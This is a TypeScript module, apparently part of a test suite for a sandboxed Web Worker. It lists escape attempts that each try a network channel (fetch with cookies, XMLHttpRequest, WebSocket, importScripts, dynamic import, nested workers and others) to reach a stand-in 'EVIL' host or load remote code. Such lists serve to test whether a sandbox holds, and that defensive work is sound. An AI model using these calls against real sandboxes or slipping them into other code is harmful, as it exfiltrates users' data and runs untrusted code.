/** Ways to send something out of the Worker, or to fetch code into it. */
import type { Attack } from './attack.ts';

export const network: readonly Attack[] = [
  {
    id: 'fetch',
    title: 'fetch another origin',
    code: `await fetch('EVIL/ID', { mode: 'no-cors' }); say('LEAK fetch');`,
  },
  {
    id: 'fetch-site',
    title: 'fetch the site with its cookies',
    code: `const r = await fetch('SITE/', { credentials: 'include' }); say('LEAK ' + (await r.text()).length);`,
  },
  {
    id: 'xhr',
    title: 'XMLHttpRequest',
    code: `const x = new XMLHttpRequest(); x.open('GET', 'EVIL/ID', false); x.send(); say('LEAK xhr');`,
  },
  {
    id: 'websocket',
    title: 'WebSocket',
    code: `const s = new WebSocket('EVIL/ID'.replace('http', 'ws'));
      await new Promise((ok, no) => { s.onopen = ok; s.onerror = no; }); say('LEAK ws');`,
  },
  {
    id: 'eventsource',
    title: 'EventSource',
    code: `const s = new EventSource('EVIL/ID');
      await new Promise((ok, no) => { s.onopen = ok; s.onerror = no; }); say('LEAK es');`,
  },
  {
    id: 'webtransport',
    title: 'WebTransport',
    code: `await new WebTransport('EVIL/ID'.replace('http:', 'https:')).ready; say('LEAK wt');`,
    silent: 'it needs HTTP/3, which the other origin does not speak',
  },
  {
    id: 'beacon',
    title: 'sendBeacon',
    code: `if (navigator.sendBeacon('EVIL/ID', 'x')) say('LEAK beacon');`,
    silent: 'no browser gives it to a Worker',
  },
  {
    id: 'import-scripts',
    title: 'importScripts from another origin',
    code: `importScripts('EVIL/ID'); say('LEAK importScripts');`,
  },
  {
    id: 'import',
    title: 'import() from another origin',
    code: `await import(/* as is */ 'EVIL/ID'); say('LEAK import');`,
  },
  {
    id: 'import-site',
    title: 'import() of the site’s own script',
    code: `await import('SITE/script.js'); say('LEAK import');`,
  },
  {
    id: 'import-data',
    title: 'import() of a data: URL',
    code: `await import('data:text/javascript,export default 1'); say('LEAK data');`,
  },
  {
    id: 'import-in-blob',
    title: 'import() from a blob module of its own making',
    code: `const u = URL.createObjectURL(new Blob(["import 'EVIL/ID'"], { type: 'text/javascript' }));
      await import(u); say('LEAK import');`,
  },
  {
    id: 'font',
    title: 'a font from another origin',
    code: `await new FontFace('a', 'url(EVIL/ID)').load(); say('LEAK font');`,
  },
  {
    id: 'nested-remote-worker',
    title: 'a nested Worker from another origin',
    code: `const w = new Worker('EVIL/ID');
      await new Promise((ok, no) => { w.onmessage = ok; w.onerror = no; }); say('LEAK worker');`,
    silent: 'no browser makes a Worker from another origin',
  },
  {
    id: 'nested-site-worker',
    title: 'a nested Worker from the site’s own address',
    code: `const w = new Worker('SITE/worker.js');
      say(await new Promise((ok, no) => { w.onmessage = (e) => ok('LEAK ' + e.data); w.onerror = no; }));`,
  },
  {
    id: 'nested-worker-fetch',
    title: 'a nested Worker with a fresh global scope',
    code: `const u = URL.createObjectURL(new Blob(["fetch('EVIL/ID').then(() => postMessage('LEAK nested'), () => postMessage('blocked'))"]));
      const w = new Worker(u); say(await new Promise((ok, no) => { w.onmessage = (e) => ok(e.data); w.onerror = no; }));`,
  },
  {
    id: 'webrtc',
    title: 'WebRTC',
    code: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:1' }] }); say('LEAK rtc');`,
    silent: 'no browser gives it to a Worker',
  },
];
